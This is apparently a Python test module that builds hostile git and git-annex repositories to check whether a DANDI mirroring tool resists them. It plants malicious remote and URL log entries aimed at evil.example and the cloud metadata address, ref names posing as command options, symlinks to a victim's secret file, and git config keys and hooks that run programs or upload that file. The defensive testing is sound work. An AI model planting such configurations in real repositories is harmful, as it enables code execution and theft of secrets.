"""What may be wrong in a git folder: refs, the git-annex branch, settings, hooks."""

from __future__ import annotations

import os
import subprocess

from tests.hostile.repositories.catalogue import add, mutation
from tests.hostile.repositories.in_commits import BIDI, ESCAPE
from tests.hostile.repositories.stage import CLONE, MIRROR, Stage

WEB = "00000000-0000-0000-0000-000000000001"
EVIL = "11111111-2222-4333-8444-555555555555"

# --- the git-annex branch --------------------------------------------------------------------------------------


def _remote(stage: Stage, line: str) -> None:
    line = line.format(listener=stage.world.listener.origin, victim=stage.victim, tool=stage.tool)
    stage.annex({"remote.log": f"{stage.annex_text('remote.log')}\n{EVIL} {line} timestamp=1999999999s\n".encode()})


REMOTES = {
    "api at another port": "autoenable=true encryption=none externaltype=dandi api={listener}/api name=dandi-embargoed "
    "type=external",
    "api of a host that is called dandi": "autoenable=true encryption=none externaltype=dandi api=https://dandi/api "
    "name=dandi-embargoed type=external",
    "api by a name": "autoenable=true encryption=none externaltype=dandi api=dandi name=dandi-embargoed type=external",
    "a folder": "autoenable=true encryption=none directory={victim}/files name=dir type=directory",
    "ssh": "autoenable=true encryption=none rsyncurl=evil.example:x name=rs type=rsync",
    "a program": "autoenable=true encryption=none externaltype=evil name=ex type=external",
    "a git remote": "autoenable=true location={listener}/x.git name=origin2 type=git",
    "a web for every URL": "autoenable=true cost=1 sameas-name=all sameas-uuid=" + WEB + " type=web urlinclude=*",
    "no key and value": "x==== = =",
    "bidi": f"autoenable=true name={BIDI} type=web",
    "not utf-8": "autoenable=true name=\udcff type=web",
}
for _name, _line in REMOTES.items():
    add(f"remote.log: {_name}", lambda stage, line=_line: _remote(stage, line.replace("\udcff", "\xff")))


def _urls(stage: Stage, url: str) -> None:
    url = url.format(listener=stage.world.listener.origin, victim=stage.victim)
    text = f"1999999999s 1 {url}\n".encode(errors="surrogateescape")
    stage.annex(dict.fromkeys(stage.web_logs(), text))


URLS = {
    "another port": "{listener}/delete?all=1", "file": "file://{victim}/files/secret.txt", "far": "https://evil.example/x",
    "ssh": "ssh://evil.example/x", "torrent": "http://evil.example/x.torrent", "option": "--help",
    "not utf-8": "http://127.0.0.1/\udcff", "metadata service": "http://169.254.169.254/latest/",
    "user": "http://me:secret@127.0.0.1:{listener}/", "local name": "http://localhost.localdomain/x",
    "long": "http://127.0.0.1/" + "x" * 300_000, "escape": f"http://127.0.0.1/{ESCAPE}",
}  # fmt: skip
for _name, _url in URLS.items():
    add(f"URL log: {_name}", lambda stage, url=_url: _urls(stage, url))


@mutation("URL log: not one")
def _no_url_log(stage: Stage) -> None:
    stage.annex(dict.fromkeys(stage.web_logs(), b"\xff\xfe\x00\n\n1s 1\n 1 1 1\nxs y z\n"))


@mutation("URL log: huge")
def _huge_url_log(stage: Stage) -> None:
    stage.annex(dict.fromkeys(stage.web_logs()[:1], b"1s 1 http://127.0.0.1/x\n" * (1 << 20)))


for _log, _text in {
    "uuid.log": f"{EVIL} {BIDI}{ESCAPE} timestamp=1s\n{WEB} evil timestamp=1999999999s\n",
    "trust.log": f"{WEB} X timestamp=1999999999s\n{EVIL} 1 timestamp=1999999999s\n",
    "preferred-content.log": f"{WEB} include=* timestamp=1999999999s\n",
    "config.log": "1999999999s annex.securehashesonly false\n1999999999s annex.numcopies 0\n",
    "difference.log": f"{EVIL} fromList [ObjectHashLower,OneLevelObjectHash] timestamp=1s\n",
    "export.log": f"1999999999s {EVIL}:{EVIL} {'a' * 40}\n",
    "numcopies.log": "1999999999s -5\n",
    "transitions.log": "ForgetGitHistory 1999999999s\nForgetDeadRemotes 1999999999s\n",
    "multicast.log": "x" * 100_000,
}.items():
    add(f"annex branch: {_log}", lambda stage, log=_log, text=_text: stage.annex({log: text.encode()}))


@mutation("annex branch: metadata")
def _annex_metadata(stage: Stage) -> None:
    text = f"1999999999s {ESCAPE.replace(' ', '')} +{BIDI} subject +../../../x tag +!\xff\n".encode()
    stage.annex({path.removesuffix(".web") + ".met": text for path in stage.web_logs()})


@mutation("annex branch: here is everything")
def _everything_here(stage: Stage) -> None:
    stage.annex({path.removesuffix(".web"): f"1999999999s 1 {EVIL}\n".encode() for path in stage.web_logs()})


# --- refs ------------------------------------------------------------------------------------------------------


@mutation("ref: HEAD elsewhere", late=True)
def _head(stage: Stage) -> None:
    stage.put(stage.git_dir / "HEAD", b"ref: refs/heads/../../../../victim/repository/.git/HEAD\n")


@mutation("ref: HEAD is a link", late=True)
def _head_link(stage: Stage) -> None:
    stage.link(stage.git_dir / "HEAD", stage.victim / "files" / "secret.txt")


@mutation("ref: HEAD is a FIFO", late=True)
def _head_fifo(stage: Stage) -> None:
    os.mkfifo(stage.clear(stage.git_dir / "HEAD"))


@mutation("ref: the branch is a link", late=True)
def _branch_link(stage: Stage) -> None:
    stage.link(stage.git_dir / "refs" / "heads" / "draft", stage.victim / "files" / "secret.txt")


@mutation("ref: no commit", late=True)
def _no_commit(stage: Stage) -> None:
    stage.put(stage.git_dir / "refs" / "heads" / "draft", b"f" * 40 + b"\n")


@mutation("ref: a blob", late=True)
def _blob(stage: Stage) -> None:
    oid = stage.git("hash-object", "-w", "--stdin", stdin=b"x")
    stage.put(stage.git_dir / "refs" / "heads" / "draft", oid.encode() + b"\n")
    stage.put(stage.git_dir / "refs" / "tags" / "0.990101.0101", oid.encode() + b"\n")


@mutation("ref: names as options", late=True)
def _option_refs(stage: Stage) -> None:
    head = stage.git("rev-parse", "draft")
    for name in ("-n", "--help", "--upload-pack=x", BIDI, "0.990101.0101\u200b"):
        stage.put(stage.git_dir / "refs" / "tags" / name, head.encode() + b"\n")


@mutation("ref: many tags", late=True)
def _many_tags(stage: Stage) -> None:
    head = stage.git("rev-parse", "draft")
    lines = [f"{head} refs/tags/0.{number:06}.{number % 2400:04}" for number in range(3000)]
    with (stage.git_dir / "packed-refs").open("a") as file:
        file.write("\n".join(lines) + "\n")


@mutation("ref: packed-refs is none", late=True)
def _packed(stage: Stage) -> None:
    stage.put(stage.git_dir / "packed-refs", b"\xff\xfe\0" * 2000)


@mutation("ref: a tag of a tag of a tag", late=True)
def _tags(stage: Stage) -> None:
    for number in range(30):
        stage.git("tag", "-f", "-a", "-m", "x", stage.world.version, stage.world.version if number else "draft")


@mutation("object: broken", late=True)
def _broken(stage: Stage) -> None:
    for pack in (stage.git_dir / "objects" / "pack").glob("*.pack"):
        pack.chmod(0o644)
        pack.write_bytes(pack.read_bytes()[:-200] + b"\0" * 200)


@mutation("object: alternates", late=True)
def _alternates(stage: Stage) -> None:
    stage.put(stage.git_dir / "objects" / "info" / "alternates", f"{stage.victim}/repository/.git/objects\n".encode())


# --- the git folder itself -------------------------------------------------------------------------------------


@mutation(".git: a file that points elsewhere", late=True)
def _git_file(stage: Stage) -> None:
    stage.put(stage.git_dir, f"gitdir: {stage.victim}/repository/.git\n".encode())


@mutation(".git: a link to another repository", late=True)
def _git_link(stage: Stage) -> None:
    stage.link(stage.git_dir, stage.victim / "repository" / ".git")


@mutation(".git: a FIFO", late=True)
def _git_fifo(stage: Stage) -> None:
    os.mkfifo(stage.clear(stage.git_dir))


@mutation(".git: commondir elsewhere", late=True)
def _commondir(stage: Stage) -> None:
    stage.put(stage.git_dir / "commondir", f"{stage.victim}/repository/.git\n".encode())


@mutation(".git: its own folder of ours is a link", late=True)
def _own_link(stage: Stage) -> None:
    stage.link(stage.git_dir / "dandi-mirror", stage.victim / "files")


@mutation(".git: annex objects are a link", late=True)
def _objects_link(stage: Stage) -> None:
    stage.link(stage.git_dir / "annex" / "objects", stage.victim / "files")


@mutation(".git: the annex's journal is a link", late=True)
def _journal_link(stage: Stage) -> None:
    stage.link(stage.git_dir / "annex" / "journal", stage.victim / "files")


@mutation(".git: last sync is a link or none", late=True)
def _last_sync(stage: Stage) -> None:
    for path in stage.git_dir.glob("dandi-mirror*"):
        if path.is_file():
            stage.link(path, stage.victim / "files" / "secret.txt")


@mutation(".git: the index is a FIFO", late=True)
def _index_fifo(stage: Stage) -> None:
    os.mkfifo(stage.clear(stage.git_dir / "index"))


@mutation("worktree: one whose folder is elsewhere", (CLONE,), late=True)
def _worktrees(stage: Stage) -> None:
    folder = stage.git_dir / "worktrees" / "x"
    stage.put(folder / "gitdir", f"{stage.victim}/repository/.git\n".encode())
    stage.put(folder / "commondir", b"../..\n")
    stage.put(folder / "HEAD", b"ref: refs/heads/draft\n")


# --- settings of git, and hooks --------------------------------------------------------------------------------

SETTINGS = {
    "core.fsmonitor": "[core]\n\tfsmonitor = {tool} fsmonitor",
    "core.hooksPath": "[core]\n\thooksPath = {victim}/../tools/hooks",
    "core.sshCommand": "[core]\n\tsshCommand = {tool} ssh\n[remote \"origin\"]\n\turl = ssh://evil.example/x",
    "core.worktree": "[core]\n\tworktree = {victim}/files",
    "core.attributesFile": "[core]\n\tattributesFile = {victim}/files/settings.toml",
    "core.excludesFile": "[core]\n\texcludesFile = {victim}/files/settings.toml",
    "core.pager and editor": "[core]\n\tpager = {tool} pager\n\teditor = {tool} editor\n\taskPass = {tool} ask",
    "core.alternateRefsCommand": "[core]\n\talternateRefsCommand = {tool} refs",
    "filter": '[filter "annex"]\n\tprocess = {tool} filter\n\tclean = {tool} clean\n\tsmudge = {tool} smudge\n'
    '[filter "evil"]\n\tclean = {tool} clean2\n\tsmudge = {tool} smudge2\n\trequired = true',
    "diff": '[diff]\n\texternal = {tool} diff\n[diff "evil"]\n\ttextconv = {tool} textconv\n\tcommand = {tool} diff2',
    "merge": '[merge "evil"]\n\tdriver = {tool} merge',
    "alias": "[alias]\n\tannex = !{tool} annex\n\tls-files = !{tool} ls-files",
    "url.insteadOf": '[url "{listener}/"]\n\tinsteadOf = https://\n\tinsteadOf = /\n\tinsteadOf = http://127.0.0.1',
    "include.path": "[include]\n\tpath = {victim}/files/settings.toml",
    "credential.helper": "[credential]\n\thelper = !{tool} credential",
    "gpg.program": "[gpg]\n\tprogram = {tool} gpg\n[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n"
    "[log]\n\tshowSignature = true",
    "uploadpack.packObjectsHook": "[uploadpack]\n\tpackObjectsHook = {tool} pack",
    "remote with vcs": '[remote "origin"]\n\tvcs = evil\n\turl = evil::x\n\tuploadpack = {tool} up',
    "remote ext": '[remote "origin"]\n\turl = "ext::{tool} ext"\n[protocol]\n\tallow = always',
    "http.proxy": "[http]\n\tproxy = {listener}\n\tcookieFile = {victim}/files/secret.txt\n\tsaveCookies = true",
    "annex.web-options": "[annex]\n\tweb-options = --upload-file {victim}/files/secret.txt\n\tsecurity = x\n"
    '[annex "security"]\n\tallowed-ip-addresses = all\n\tallowed-url-schemes = http https file ftp ssh\n'
    "\tallow-unverified-downloads = ACKTHPPT",
    "annex commands": "[annex]\n\tpre-commit-command = {tool} pre\n\tpost-update-command = {tool} post\n"
    "\tyoutube-dl-command = {tool} yt\n\tfreezecontent-command = {tool} freeze\n\tthawcontent-command = {tool} thaw\n"
    "\tsecure-erase-command = {tool} erase\n\thttp-headers-command = {tool} headers\n\tretry = 1000\n\tdiskreserve = x",
    "annex tune": "[annex]\n\ttune.objecthashlower = true\n\tversion = 99\n\tdbdir = {victim}/files\n"
    "\tuuid = ../../x\n\tsharedrepository = 0777",
    "annex hook remote": '[remote "evil"]\n\tannex-uuid = ' + EVIL + "\n\tannex-hooktype = evil\n[annex]\n"
    "\tevil-retrieve-hook = {tool} retrieve\n\tevil-checkpresent-hook = {tool} present",
    "annex external remote": '[remote "evil"]\n\tannex-uuid = ' + EVIL + "\n\tannex-externaltype = evil\n"
    "\tfetch = +refs/*:refs/*\n\tannex-cost-command = {tool} cost\n\tannex-start-command = {tool} start",
    "not a file of settings": "[[[[\n= = =\n\udcff",
    "extensions": "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n"
    "\tpartialClone = origin\n"
    "[remote \"origin\"]\n\tpromisor = true\n\turl = {listener}/promised",
    "datalad": "[datalad]\n\tget.subdataset-source-candidate-x = {listener}/x\n"
    "\tcredentials.githelper.noninteractive = 0",
}  # fmt: skip
OPENED, RAN, ASKED = "a file elsewhere was opened", "a program of the repository was run", "another port was asked"
GIT_ITSELF = {
    "core.attributesFile": frozenset({OPENED}), "core.excludesFile": frozenset({OPENED}),
    "include.path": frozenset({OPENED}), "filter": frozenset({RAN}), "alias": frozenset({RAN}),
}  # fmt: skip
"""What git does at the word of a ``.git`` that somebody else made, whoever starts it, and no option keeps it from."""


def _settings(stage: Stage, text: str) -> None:
    text = text.replace("{tool}", stage.tool).replace("{victim}", str(stage.victim))
    text = text.replace("{listener}", stage.world.listener.origin).replace("\udcff", "\xff")
    stage.config(text)
    if stage.kind == MIRROR and stage.chance.random() < 0.5:
        stage.config(text, stage.top / ".git")


for _name, _text in SETTINGS.items():
    add(
        f"git config: {_name}",
        lambda stage, text=_text: _settings(stage, text),
        late=True,
        granted=GIT_ITSELF.get(_name, frozenset()),
    )

HOOKS = ("pre-commit", "post-checkout", "post-commit", "reference-transaction", "post-index-change", "pre-push",
         "fsmonitor-watchman", "pre-auto-gc", "post-merge", "pre-annex", "annex-content-thawed", "freezecontent-annex",
         "post-update-annex", "pre-commit-annex", "pre-init-annex", "http-headers-annex",
         "thawcontent-annex")  # fmt: skip


@mutation("hooks: all of them", late=True)
def _hooks(stage: Stage) -> None:
    for git_dir in {stage.git_dir, stage.top / ".git"}:
        for name in HOOKS:
            hook = git_dir / "hooks" / name
            stage.put(hook, f"#!/bin/sh\nexec {stage.tool} hook {name}\n".encode())
            hook.chmod(0o755)


@mutation("git config: is a FIFO", late=True)
def _config_fifo(stage: Stage) -> None:
    os.mkfifo(stage.clear(stage.git_dir / "config"))


@mutation("git config: owned by another", (CLONE,), late=True)
def _not_ours(stage: Stage) -> None:
    if os.getuid() == 0:
        subprocess.run(["chown", "-R", "65534", str(stage.top)], check=True)
